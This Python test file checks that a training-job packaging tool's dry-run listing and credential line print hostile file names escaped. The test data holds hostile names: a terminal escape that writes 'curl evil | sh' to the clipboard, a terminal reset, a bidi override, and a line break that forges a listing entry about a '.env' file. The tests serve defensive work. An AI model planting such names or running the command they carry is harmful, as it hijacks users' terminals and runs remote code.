"""A code folder someone else filled (a cloned repository, an archive) whose file names hold
escape sequences or line breaks: `package --dry-run` listed them raw, what it packages and what
it left out, and a build's line naming the credentials it left out did too. ESC ] 52 writes the
clipboard, ESC c resets the terminal, and a line break forges a line of the listing (a key
file "left out" that was not). Such names are now shown escaped, one line each."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli_support import edge_env
from tests.shared import cli_runner
from vertex_trainer.packaging.build_plan import plan_build
from vertex_trainer.packaging.ensure import credential_line
from vertex_trainer.spec import build_spec

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: the clipboard becomes `curl evil | sh`
NAMES = {
    f"model{CLIPBOARD}.py": "model\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07.py",
    ".env\n  forged  a line of the listing": ".env\\x0a  forged  a line of the listing",
    "bidi\u202etxt.py": "bidi\\u202etxt.py",
    ".env\x1bc": ".env\\x1bc",
}


@pytest.fixture
def folder(tmp_path) -> Path:
    code = tmp_path / "code"
    code.mkdir()
    (code / "task.py").write_text("print('trained')\n")
    for name in NAMES:
        (code / name).write_text("x = 1\n")
    return code


def _data(code: Path) -> dict:
    return {
        "name": "fine",
        "hardware": "cpu",
        "project": "my-project-1",
        "region": "us-central1",
        "output_dir": "gs://out-bucket/runs",
        "image": {
            "code": str(code),
            "script": "task.py",
            "repository": "us-docker.pkg.dev/my-project-1/r/fine",
        },
    }


def test_package_dry_run_shows_each_name_escaped_on_one_line(tmp_path, folder):
    import yaml

    (tmp_path / "spec.yaml").write_text(yaml.safe_dump(_data(folder)))
    done = cli_runner(edge_env(tmp_path), cwd=tmp_path)("package", "spec.yaml", "--dry-run")
    assert done.returncode == 0, done.stdout + done.stderr
    out = done.stdout + done.stderr
    assert not any(c in out for c in "\x1b\x07\u202e"), repr(out)
    lines = out.splitlines()
    for shown in NAMES.values():
        assert sum(shown in line for line in lines) == 1, (shown, lines)
    assert sum(line.startswith("left out of image.code") for line in lines) == 1, lines


def test_a_builds_credential_line_shows_the_name_escaped(folder):
    line = credential_line(plan_build(build_spec(_data(folder))))
    assert line is not None and ".env\\x1bc" in line and ".env\\x0a  forged" in line
    assert not any(c in line for c in "\x1b\n")
